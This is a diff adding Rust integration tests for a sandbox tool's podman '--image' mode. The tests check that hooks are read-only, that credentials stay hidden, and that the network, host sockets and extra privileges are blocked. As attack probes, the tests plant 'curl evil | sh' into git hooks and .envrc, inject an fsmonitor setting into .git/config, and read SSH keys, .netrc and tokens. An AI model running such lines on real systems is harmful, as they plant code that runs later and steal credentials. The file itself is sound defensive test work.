@@ -1,0 +1,699 @@
+//! `keepout run --image`: the same policy inside a podman image (issue 16), with the local test
+//! image `.ci/test-image.sh` makes without a registry (Debian 12 minbase with python3, pytest
+//! and git). As root the container is rootful podman's; as the plain user rootless podman's, the
+//! image imported from the cached root filesystem into that user's own storage on first use.
+//! Every test skips with a note when podman or the image is missing (`.ci/run` makes both).
+
+use std::path::PathBuf;
+use std::sync::Mutex;
+use std::time::Duration;
+
+use super::harness::*;
+
+const IMAGE: &str = "localhost/keepout-test:bookworm";
+
+/// The cached root filesystem `.ci/test-image.sh` keeps.
+fn tarball() -> PathBuf {
+    let cache = std::env::var("KEEPOUT_TEST_IMAGE_CACHE")
+        .unwrap_or_else(|_| "/var/cache/keepout-test-image".into());
+    PathBuf::from(cache).join("bookworm-minbase.tar")
+}
+
+/// The fixture's environment plus what the runner's podman needs to find its own storage (a
+/// rootless user's is under the real home, and the fixture's HOME is a fake one): `None`, with
+/// a note, when podman or the image is not there.
+fn engine_env(fx: &Fixture) -> Option<Vec<(String, String)>> {
+    static IMPORT: Mutex<()> = Mutex::new(());
+    let r = &fx.runner;
+    if !have("podman") {
+        note("podman is not installed: the --image tests did not run (apt-get install podman runc uidmap)");
+        return None;
+    }
+    let mut env = fx.env().to_vec();
+    if !r.is_root() {
+        let data = r.real_home().join(".local/share");
+        env.push(("XDG_DATA_HOME".into(), data.display().to_string()));
+    }
+    let podman = |args: &[&str]| {
+        let mut argv = vec!["podman".to_string()];
+        argv.extend(args.iter().map(|a| a.to_string()));
+        run(
+            r.command(&argv, &env, &fx.project),
+            format!("[{r}] podman {}", args.join(" ")),
+        )
+    };
+    let _one_at_a_time = IMPORT.lock().unwrap_or_else(|e| e.into_inner());
+    if podman(&["image", "exists", IMAGE]).success() {
+        return Some(env);
+    }
+    let tar = tarball();
+    if !r.is_root() && tar.exists() {
+        let out = podman(&["import", "--quiet", &tar.display().to_string(), IMAGE]);
+        if out.success() {
+            return Some(env);
+        }
+        note(&format!(
+            "[{r}] podman import of {} failed: the --image tests did not run:{out}",
+            tar.display()
+        ));
+        return None;
+    }
+    note(&format!(
+        "[{r}] the image {IMAGE} is missing: the --image tests did not run (.ci/test-image.sh makes it)"
+    ));
+    None
+}
+
+/// `keepout run --image IMAGE <extra> -- sh -c script` as the runner, with `env`.
+fn in_image(fx: &Fixture, env: &[(String, String)], extra: &[&str], script: &str) -> Output {
+    let mut argv = vec![
+        keepout_bin().to_string(),
+        "run".into(),
+        "--image".into(),
+        IMAGE.into(),
+    ];
+    argv.extend(extra.iter().map(|s| s.to_string()));
+    argv.extend(["--", "sh", "-c", script].map(String::from));
+    let what = format!(
+        "[{}] keepout run --image {IMAGE} {} -- sh -c {}",
+        fx.runner,
+        extra.join(" "),
+        q(script)
+    );
+    run(fx.runner.command(&argv, env, &fx.project), what)
+}
+
+/// The project is there at its own path, read-write (as the plain user: rootless podman keeps
+/// its owner); git's hooks, which the host runs at the next commit, are read-only (A4/A14).
+#[test]
+fn image_shows_the_project_at_its_path_and_its_protected_names_read_only() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let hook = fx.project.join(".git/hooks/pre-commit");
+
+        let out = fx.outside("echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted");
+        assert!(
+            out.has("planted") && hook.exists(),
+            "[{r}] outside: the hook is planted (proves the attack):{out}"
+        );
+        std::fs::remove_file(&hook).unwrap();
+
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            "pwd; cat README.md; touch made-inside && echo wrote; \
+             echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted; \
+             echo '[core] fsmonitor = evil' >> .git/config && echo configured; true",
+        );
+        assert!(inn.success(), "[{r}] inside:{inn}");
+        let project = fx.project.display().to_string();
+        assert!(
+            inn.stdout.lines().next() == Some(project.as_str()),
+            "[{r}] the project at its own path:{inn}"
+        );
+        assert!(
+            inn.has("hello"),
+            "[{r}] the project's files are there:{inn}"
+        );
+        assert!(
+            !inn.has("planted") && !hook.exists(),
+            "[{r}] .git/hooks is read-only:{inn}"
+        );
+        assert!(
+            !inn.has("configured"),
+            "[{r}] .git/config is read-only:{inn}"
+        );
+        assert!(
+            inn.has("Read-only file system"),
+            "[{r}] refused by a read-only mount:{inn}"
+        );
+        if r.is_root() {
+            // Rootful podman runs a root caller's command as nobody, and runc 1.1 has no
+            // idmapped mounts: root's project is writable only where nobody may write.
+            note("[root] --image: the container runs as nobody; root's project is not writable there");
+        } else {
+            assert!(
+                inn.has("wrote") && fx.project.join("made-inside").exists(),
+                "[{r}] the project is writable, and the write lands in it:{inn}"
+            );
+            let out = fx.outside("stat -c %u made-inside");
+            assert_eq!(
+                out.stdout.trim(),
+                r.uid.to_string(),
+                "[{r}] the new file is the runner's:{out}"
+            );
+        }
+    }
+}
+
+/// The caller's tokens (GITHUB_TOKEN and the others in the fixture's environment) and the home's
+/// credentials (~/.ssh/id_ed25519, ~/.netrc...) are not in the container (A1, A2).
+#[test]
+fn image_holds_none_of_the_callers_environment_or_home_credentials() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let key = fx.home_path(".ssh/id_ed25519");
+
+        let script = format!("env; cat {} ~/.netrc; ls -A ~; echo listed", q(&key));
+        let out = fx.outside(&script);
+        assert!(
+            out.has(&fx.secret("GITHUB_TOKEN")) && out.has(&fx.credential(".ssh/id_ed25519")),
+            "[{r}] outside: the token and the key are readable (proves the attack):{out}"
+        );
+
+        let inn = in_image(&fx, &env, &[], &script);
+        assert!(inn.has("listed"), "[{r}] the script ran:{inn}");
+        for (name, value) in fx.secrets() {
+            assert!(
+                !inn.has(&value),
+                "[{r}] inside: the value of {name} leaked:{inn}"
+            );
+        }
+        for (rel, marker) in fx.credentials() {
+            assert!(!inn.has(marker), "[{r}] inside: ~/{rel} leaked:{inn}");
+        }
+        let vars = env_lines(&inn.stdout);
+        let get = |k: &str| vars.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
+        assert_eq!(
+            get("HOME"),
+            Some(fx.home.display().to_string()),
+            "[{r}] HOME at the same path:{inn}"
+        );
+        assert_eq!(
+            get("KEEPOUT_SANDBOX").as_deref(),
+            Some("1"),
+            "[{r}] the policy's variables:{inn}"
+        );
+        assert!(
+            get("XDG_DATA_HOME").is_none(),
+            "[{r}] nothing the engine was given:{inn}"
+        );
+        let listing: Vec<&str> = inn.stdout.lines().skip_while(|l| l.contains('=')).collect();
+        assert_eq!(listing, ["listed"], "[{r}] the home is empty:{inn}");
+    }
+}
+
+/// The command's exit status is keepout's; a signal's death is 128+N; what it cannot do as a
+/// user without privilege it cannot do (no capabilities, no new privileges, no network).
+#[test]
+fn image_exit_status_is_the_commands_and_it_runs_unprivileged() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let inn = in_image(&fx, &env, &[], "exit 7");
+        assert_eq!(inn.code, Some(7), "[{r}] exit 7:{inn}");
+        let inn = in_image(&fx, &env, &[], "kill -TERM $$");
+        assert_eq!(inn.code, Some(143), "[{r}] killed by TERM: 128+15:{inn}");
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            "id -u; grep -E '^(CapEff|NoNewPrivs)' /proc/self/status; echo \"sys=$(ls -A /sys | wc -l)\"; \
+             python3 -c 'import socket; socket.create_connection((\"1.1.1.1\", 80), 3)' 2>&1 | tail -1",
+        );
+        assert!(inn.success(), "[{r}] inside:{inn}");
+        assert_ne!(
+            inn.stdout.lines().next(),
+            Some("0"),
+            "[{r}] not root inside:{inn}"
+        );
+        assert!(
+            inn.has("CapEff:\t0000000000000000"),
+            "[{r}] no capabilities:{inn}"
+        );
+        assert!(inn.has("NoNewPrivs:\t1"), "[{r}] no new privileges:{inn}");
+        assert!(inn.has("sys=0\n"), "[{r}] no /sys (as natively):{inn}");
+        assert!(
+            inn.has("Network is unreachable") || inn.has("OSError"),
+            "[{r}] no network:{inn}"
+        );
+    }
+}
+
+/// pytest, from the image, runs the project's tests in the project.
+#[test]
+fn image_runs_pytest_in_the_project() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        fx.script("test_sum.py", "def test_sum():\n    assert 1 + 1 == 2\n");
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            "python3 -m pytest -q -p no:cacheprovider test_sum.py",
+        );
+        assert!(
+            inn.success() && inn.has("1 passed"),
+            "[{r}] pytest passes:{inn}"
+        );
+    }
+}
+
+/// `--print-policy` prints the exact engine command line and runs nothing.
+#[test]
+fn image_print_policy_shows_the_engine_command_line() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let marker = fx.marker("print");
+        let inn = in_image(&fx, &env, &["--print-policy"], &format!("echo {marker}"));
+        assert!(inn.success(), "[{r}] --print-policy:{inn}");
+        let line = inn.stdout.trim();
+        let project = fx.project.display().to_string();
+        for want in [
+            "podman ",
+            " run --rm ",
+            "--pull never",
+            "--cap-drop ALL",
+            "--security-opt no-new-privileges",
+            "--read-only",
+            "--network none",
+            &format!("--volume {project}:{project}:rw"),
+            &format!("--volume {project}/.git/hooks:{project}/.git/hooks:ro"),
+            &format!("--workdir {project} {IMAGE} sh -c"),
+        ] {
+            assert!(
+                line.contains(want),
+                "[{r}] the command line has {want:?}:{inn}"
+            );
+        }
+        if !r.is_root() {
+            assert!(
+                line.contains("--userns keep-id"),
+                "[{r}] rootless: keep-id:{inn}"
+            );
+        }
+        assert!(
+            !inn.has(&fx.secret("GITHUB_TOKEN")),
+            "[{r}] no token in it:{inn}"
+        );
+        assert_eq!(line.lines().count(), 1, "[{r}] one line:{inn}");
+    }
+}
+
+/// keepout never pulls: a missing image is an error that says what to do.
+#[test]
+fn image_missing_is_an_error_that_says_what_to_do() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(mut env) = engine_env(&fx) else {
+            return;
+        };
+        env.retain(|(k, _)| k != "GITHUB_TOKEN");
+        let argv: Vec<String> = [
+            keepout_bin(),
+            "run",
+            "--image",
+            "localhost/keepout-absent:none",
+            "--",
+            "true",
+        ]
+        .map(String::from)
+        .to_vec();
+        let out = run(
+            fx.runner.command(&argv, &env, &fx.project),
+            format!("[{r}] missing image"),
+        );
+        assert_eq!(out.code, Some(125), "[{r}] keepout's own failure:{out}");
+        assert!(
+            out.stderr.contains("never pulls") && out.stderr.contains("hint: pull or build it"),
+            "[{r}]:{out}"
+        );
+    }
+}
+
+/// The container dies with keepout: killed with SIGKILL (no handler runs), its container is
+/// removed all the same (A6).
+#[test]
+fn image_container_does_not_outlive_keepout() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let marker = fx.marker("outlive");
+        let mut argv = vec![
+            keepout_bin().to_string(),
+            "run".into(),
+            "--image".into(),
+            IMAGE.into(),
+        ];
+        argv.extend(["--", "sh", "-c", &format!("sleep 300; : {marker}")].map(String::from));
+        let mut cmd = fx.runner.command(&argv, &env, &fx.project);
+        cmd.stdin(std::process::Stdio::null());
+        let running = Running::spawn(cmd, format!("[{r}] keepout run --image -- sleep"));
+        let ps = || {
+            let argv: Vec<String> = [
+                "podman",
+                "ps",
+                "--all",
+                "--no-trunc",
+                "--format",
+                "{{.Names}} {{.Command}}",
+            ]
+            .map(String::from)
+            .to_vec();
+            run(
+                fx.runner.command(&argv, &env, &fx.project),
+                format!("[{r}] podman ps"),
+            )
+            .stdout
+        };
+        let up = poll(Duration::from_secs(40), || ps().contains(&marker));
+        assert!(up, "[{r}] the container runs: {}", ps());
+        assert!(signal(running.pid(), "KILL"), "[{r}] SIGKILL keepout");
+        let out = running.wait();
+        assert_eq!(out.signal, Some(9), "[{r}] keepout died of SIGKILL:{out}");
+        let gone = poll(Duration::from_secs(30), || !ps().contains(&marker));
+        assert!(
+            gone,
+            "[{r}] the container is removed after keepout died: {}",
+            ps()
+        );
+    }
+}
+
+/// What the run leaves in the project that the host would run later (a new `.envrc`, which
+/// direnv runs at the next `cd`) is moved aside after the run, as natively (A4, A15): the same
+/// after-run check.
+#[test]
+fn image_what_the_run_leaves_for_the_host_is_moved_aside() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let envrc = fx.project.join(".envrc");
+
+        let out = fx.outside("echo 'curl evil | sh' > .envrc && echo planted");
+        assert!(
+            out.has("planted") && envrc.exists(),
+            "[{r}] outside: .envrc is planted (proves the attack):{out}"
+        );
+        std::fs::remove_file(&envrc).unwrap();
+
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            "echo 'curl evil | sh' > .envrc && echo planted; true",
+        );
+        assert!(inn.success(), "[{r}] inside:{inn}");
+        assert!(
+            !envrc.exists(),
+            "[{r}] no .envrc under its name after the run:{inn}"
+        );
+        if r.is_root() {
+            // The container's nobody cannot write root's project at all.
+            assert!(!inn.has("planted"), "[{r}] not written:{inn}");
+            continue;
+        }
+        assert!(inn.has("planted"), "[{r}] the run wrote it:{inn}");
+        let aside = std::fs::read_dir(&fx.project)
+            .unwrap()
+            .filter_map(|e| e.ok())
+            .any(|e| {
+                e.file_name()
+                    .to_string_lossy()
+                    .starts_with(".envrc.keepout-quarantine-")
+            });
+        assert!(
+            aside && inn.stderr.contains(".envrc"),
+            "[{r}] moved aside, and said:{inn}"
+        );
+    }
+}
+
+/// keepout's seccomp deny list is added to the engine's profile: no new user namespace (from
+/// which a mount or a kernel bug is a step away, A7) and no kernel keyring (A8), as natively;
+/// threads and processes still start.
+#[test]
+fn image_gets_keepouts_seccomp_deny_list_on_top_of_the_engines() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let script = "unshare -U true && echo new-userns; \
+             python3 -c 'import ctypes; print(\"keyctl\", ctypes.CDLL(None).syscall(250, 0, 0, 0, 0, 0))'; \
+             python3 -c 'import threading, subprocess; t = threading.Thread(target=print); t.start(); t.join(); \
+             print(\"spawned\", subprocess.run([\"true\"]).returncode)'";
+        let out = fx.outside(script);
+        assert!(
+            out.has("new-userns"),
+            "[{r}] outside: a new user namespace (proves the attack):{out}"
+        );
+        let inn = in_image(&fx, &env, &[], script);
+        assert!(
+            !inn.has("new-userns"),
+            "[{r}] inside: no new user namespace:{inn}"
+        );
+        assert!(inn.has("keyctl -1"), "[{r}] inside: keyctl refused:{inn}");
+        assert!(
+            inn.has("spawned 0"),
+            "[{r}] inside: threads and processes work:{inn}"
+        );
+    }
+}
+
+/// Host processes (A6), the host's abstract unix sockets and loopback services (A3, A9) and the
+/// caller's open descriptors (A10) are out of the container's reach, as natively.
+#[test]
+fn image_host_processes_sockets_and_descriptors_are_out_of_reach() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let decoy = fx.background(&["/bin/sleep", "300"]);
+        let abstract_name = format!("keepout-image-{}", fx.rand);
+        fx.serve("abstract", &abstract_name);
+        let port = fx.serve("tcp", "127.0.0.1");
+        let netrc = fx.home_path(".netrc");
+        let secret = fx.credential(".netrc");
+        let script = format!(
+            "kill -0 {decoy} 2>/dev/null; echo \"kill=$?\"; \
+             {}; {}; cat <&5; echo \"fd5=$?\"",
+            fx.connect_script("abstract", &abstract_name),
+            fx.connect_script("tcp", port.trim()),
+        );
+        let open = format!("exec 5<{}", q(&netrc));
+
+        let out = fx.outside(&format!("{open}; {script}"));
+        assert!(
+            out.has("kill=0") && out.stdout.matches("CONNECTED").count() == 2 && out.has(&secret),
+            "[{r}] outside: the process, both servers and the descriptor are reachable (proves the attack):{out}"
+        );
+
+        let argv: Vec<String> = [
+            "/bin/sh".to_string(),
+            "-c".into(),
+            format!(
+                "{open}; {} run --image {IMAGE} -- sh -c {}",
+                keepout_bin(),
+                q(&script)
+            ),
+        ]
+        .to_vec();
+        let inn = run(
+            fx.runner.command(&argv, &env, &fx.project),
+            format!("[{r}] inside: {script}"),
+        );
+        assert!(inn.has("kill="), "[{r}] the script ran:{inn}");
+        assert!(
+            !inn.has("kill=0"),
+            "[{r}] inside: the host process is not there:{inn}"
+        );
+        assert!(
+            !inn.has("CONNECTED"),
+            "[{r}] inside: neither server is reachable:{inn}"
+        );
+        assert_eq!(
+            inn.stdout.matches("BLOCKED").count(),
+            2,
+            "[{r}] both refused:{inn}"
+        );
+        assert!(
+            !inn.has(&secret) && !inn.has("fd5=0"),
+            "[{r}] inside: fd 5 is not inherited:{inn}"
+        );
+    }
+}
+
+/// A remote engine, through the engine's own setting (CONTAINER_HOST), keepout adding nothing:
+/// a `podman system service` on a unix socket runs the same policy, and the container is gone
+/// after the run.
+#[test]
+fn image_runs_on_a_remote_engine_through_container_host() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(mut env) = engine_env(&fx) else {
+            return;
+        };
+        let sock = fx.root.join("podman.sock");
+        let url = format!("unix://{}", sock.display());
+        let argv: Vec<String> = ["podman", "system", "service", "--time", "0", &url]
+            .map(String::from)
+            .to_vec();
+        let _service = Running::spawn(
+            fx.runner.command(&argv, &env, &fx.project),
+            format!("[{r}] podman system service"),
+        );
+        assert!(
+            poll(Duration::from_secs(20), || sock.exists()),
+            "[{r}] the service's socket"
+        );
+        env.push(("CONTAINER_HOST".into(), url.clone()));
+        // The remote client sends the caller's registry credentials with each request (for the
+        // service's pulls), and the fixture's fake ~/.docker/config.json is not base64: the
+        // engine's own business, not the container's; give it an empty one.
+        let docker_config = fx.mkdir("docker-config");
+        write_file(&docker_config.join("config.json"), "{}\n", 0o644);
+        env.push(("DOCKER_CONFIG".into(), docker_config.display().to_string()));
+        let doctor = {
+            let argv: Vec<String> = [keepout_bin(), "doctor"].map(String::from).to_vec();
+            run(
+                fx.runner.command(&argv, &env, &fx.project),
+                format!("[{r}] doctor"),
+            )
+        };
+        assert!(
+            doctor.has(", remote,"),
+            "[{r}] doctor: the engine is remote:{doctor}"
+        );
+        let marker = fx.marker("remote");
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            &format!(": {marker}; pwd; echo x > .git/hooks/pre-commit || echo refused; exit 5"),
+        );
+        assert_eq!(inn.code, Some(5), "[{r}] the command's exit status:{inn}");
+        assert!(
+            inn.has(&fx.project.display().to_string()) && inn.has("refused"),
+            "[{r}] the project at its path, its hooks read-only:{inn}"
+        );
+        let ps = || {
+            let argv: Vec<String> = [
+                "podman",
+                "ps",
+                "--all",
+                "--no-trunc",
+                "--format",
+                "{{.Command}}",
+            ]
+            .map(String::from)
+            .to_vec();
+            run(
+                fx.runner.command(&argv, &env, &fx.project),
+                format!("[{r}] podman ps"),
+            )
+            .stdout
+        };
+        assert!(
+            poll(Duration::from_secs(20), || !ps().contains(&marker)),
+            "[{r}] the container is gone: {}",
+            ps()
+        );
+    }
+}
+
+/// A host service's unix socket in the project (a dev database's) is masked in the container,
+/// as natively (A20): the policy's mask, translated.
+#[test]
+fn image_masks_host_sockets_in_the_project() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        fx.mkdir("project/run");
+        let sock = fx.project.join("run/db.sock");
+        let addr = fx.serve("unix", &sock.display().to_string());
+        let connect = fx.connect_script("unix", addr.trim());
+
+        let out = fx.outside(&connect);
+        assert!(
+            out.has("CONNECTED"),
+            "[{r}] outside: the socket answers (proves the attack):{out}"
+        );
+
+        let inn = in_image(&fx, &env, &[], &connect);
+        assert!(
+            inn.has("BLOCKED") && !inn.has("CONNECTED"),
+            "[{r}] inside: the socket is masked:{inn}"
+        );
+    }
+}
+
+/// A SIGTERM to keepout reaches the command in the container (which may clean up, and whose
+/// exit status is keepout's), and the container is gone afterwards.
+#[test]
+fn image_relays_signals_to_the_command() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let marker = fx.marker("term");
+        let mut argv = vec![
+            keepout_bin().to_string(),
+            "run".into(),
+            "--image".into(),
+            IMAGE.into(),
+        ];
+        let script =
+            format!("trap 'echo got-term; exit 3' TERM; echo ready; : {marker}; sleep 300 & wait");
+        argv.extend(["--", "sh", "-c", &script].map(String::from));
+        let running = Running::spawn(
+            fx.runner.command(&argv, &env, &fx.project),
+            format!("[{r}] keepout run --image -- trap TERM"),
+        );
+        let running_containers = || {
+            let argv: Vec<String> = ["podman", "ps", "--no-trunc", "--format", "{{.Command}}"]
+                .map(String::from)
+                .to_vec();
+            run(
+                fx.runner.command(&argv, &env, &fx.project),
+                format!("[{r}] podman ps"),
+            )
+            .stdout
+        };
+        assert!(
+            poll(Duration::from_secs(40), || running_containers()
+                .contains(&marker)),
+            "[{r}] the command runs"
+        );
+        std::thread::sleep(Duration::from_millis(500));
+        assert!(signal(running.pid(), "TERM"), "[{r}] SIGTERM keepout");
+        let out = running.wait();
+        assert_eq!(
+            out.code,
+            Some(3),
+            "[{r}] the command's own exit status after its trap:{out}"
+        );
+        assert!(out.has("got-term"), "[{r}] the command got the TERM:{out}");
+    }
+}
+
+/// What `--image` does not do yet is refused with a message that says so, before anything runs.
+#[test]
+fn image_refuses_what_it_does_not_do_yet() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        for (flags, what) in [
+            (
+                &["--net", "pypi"][..],
+                "--image with --net NAMES (keepout's proxy) is not supported yet",
+            ),
+            (
+                &["--review"][..],
+                "--image with --review is not supported yet",
+            ),
+            (
+                &["--decoys"][..],
+                "--image with --decoys is not supported yet",
+            ),
+        ] {
+            let out = in_image(&fx, &env, flags, "echo ran");
+            assert_eq!(out.code, Some(125), "[{r}] {flags:?}:{out}");
+            assert!(
+                out.stderr.contains(what) && !out.has("ran"),
+                "[{r}] {flags:?}: says {what:?}:{out}"
+            );
+        }
+    }
+}
